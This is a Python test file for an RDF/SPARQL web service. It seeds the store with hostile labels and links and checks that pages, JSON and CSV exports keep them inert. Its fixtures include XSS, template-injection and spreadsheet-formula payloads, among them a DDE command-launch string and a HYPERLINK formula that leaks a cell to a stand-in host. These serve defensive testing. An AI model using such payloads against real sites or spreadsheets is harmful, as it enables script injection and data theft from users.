"""Labels and IRIs that are written to be run: in pages, in JSON, in spreadsheets."""

from __future__ import annotations

import csv
import json
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest

from legation.terms import DCT, LGN
from serve.attacked import ATTACKED

pytestmark = ATTACKED

TURTLE = "text/turtle"

EVIL = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)",
    "template": "{{ 7 * 7 }}{% raw %}",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"open")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "end of a tag": "</title></script><svg onload=alert(1)>",
    "other way": "\u202egpj.exe",
}
LINKS = ("javascript:alert(1)", "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E", "vbscript:x")
LABEL = "http://www.w3.org/2000/01/rdf-schema#label"


class _Page(HTMLParser):
    """Finds what would run in a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.active: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note scripts, pictures that nobody put there, handlers, and links that run."""
        if tag in {"script", "iframe", "object", "embed", "svg", "img", "style", "base"}:
            self.active.append(tag)
        for name, value in attrs:
            target = (value or "").strip().lower()
            runs = target.startswith(("javascript:", "data:", "vbscript:"))
            if (
                name.startswith("on")
                or name == "style"
                or (name in {"href", "src", "action"} and runs)
            ):
                self.active.append(f"{tag} {name}={value}")


@pytest.fixture(scope="module")
def hostile(writer: httpx.Client) -> str:
    """Put data into the graph whose labels and IRIs are written to be run; return the thing."""
    literals = "".join(f"<urn:evil> <{LABEL}> {json.dumps(text)} .\n" for text in EVIL.values())
    links = "".join(
        f"<urn:evil> <urn:link> <{link}> . <{link}> <{LABEL}> 'x' .\n" for link in LINKS
    )
    source = (
        f"<urn:evil> a <{LGN}Source> ; <{LGN}language> 'en' ;"
        f" <{DCT}title> {json.dumps(EVIL['formula'])} , {json.dumps(EVIL['command'])} .\n"
    )
    odd = f"<urn:it's> <{LABEL}> \"'\" . <urn:evil> <urn:link> <urn:it's&amp;(1)> .\n"
    got = writer.post(
        "/store?default",
        content=(literals + links + odd + source).encode(),
        headers={"Content-Type": TURTLE},
    )
    assert got.status_code in {200, 201, 204}, got.text
    return "urn:evil"


def _in_time(attacker: httpx.Client, path: str, **asked: Any) -> httpx.Response:
    """Ask again where a busy machine did not answer within the short limit of this server."""
    for _ in range(5):
        got = attacker.get(path, **asked)
        if got.status_code not in {503, 504}:
            break
    return got


def test_hostile_labels_and_iris_do_not_run_in_pages(attacker: httpx.Client, hostile: str) -> None:
    """They are text, in pages of things and in refusals; the policy forbids what is inline."""
    for iri in (hostile, *LINKS, "urn:it's"):
        got = attacker.get("/about.html", params={"iri": iri})
        assert got.status_code == 200, got.text
        assert _Page(got.text).active == []
        assert "{{ 7 * 7 }}" in got.text or iri != hostile
        assert "script-src" not in got.headers["content-security-policy"]
        assert got.headers["content-security-policy"].startswith("default-src 'self'")
    browser = {"Accept": "text/html"}
    for text in EVIL.values():
        for path in ("/about", "/sparql", "/questions/visits/between", f"/{text.replace('/', '')}"):
            params = {"iri": text, "query": text, "a": text, "b": text, "lang": text}
            got = _in_time(attacker, path, params=params, headers=browser)
            assert got.status_code in {400, 404, 406}
            assert got.headers["content-type"] == "text/html; charset=utf-8"
            assert _Page(got.text).active == []


def test_hostile_labels_are_data_in_json_and_csv(attacker: httpx.Client, hostile: str) -> None:
    """JSON is never taken for a page; the CSV of SPARQL is verbatim, by its definition."""
    query = f"SELECT ?l {{ <{hostile}> <{LABEL}> ?l }}"
    got = attacker.get("/sparql", params={"query": query}, headers={"Accept": "*/*"})
    assert got.headers["content-type"].startswith("application/sparql-results+json")
    assert got.headers["x-content-type-options"] == "nosniff"
    labels = {row["l"]["value"] for row in got.json()["results"]["bindings"]}
    assert labels == set(EVIL.values())
    got = attacker.get("/sparql", params={"query": query}, headers={"Accept": "text/csv"})
    assert got.headers["content-type"].startswith("text/csv")
    assert EVIL["command"] in got.text
    told = attacker.get("/sparql", params={"query": f"SELECT <{EVIL['script']}>"})
    assert told.headers["content-type"] == "application/problem+json"
    assert told.json()["status"] == 400


def test_spreadsheets_run_no_cell_of_an_answer(attacker: httpx.Client, hostile: str) -> None:
    """What begins like a formula begins with an apostrophe in the CSV of questions."""
    got = _in_time(attacker, "/questions/sources/list.csv")
    assert got.headers["content-type"].startswith("text/csv")
    cells = [cell for row in csv.reader(got.text.splitlines()) for cell in row]
    assert hostile in cells
    assert {f"'{EVIL['formula']}", f"'{EVIL['command']}"} <= set(cells)
    assert [cell for cell in cells if cell.startswith(("=", "@"))] == []
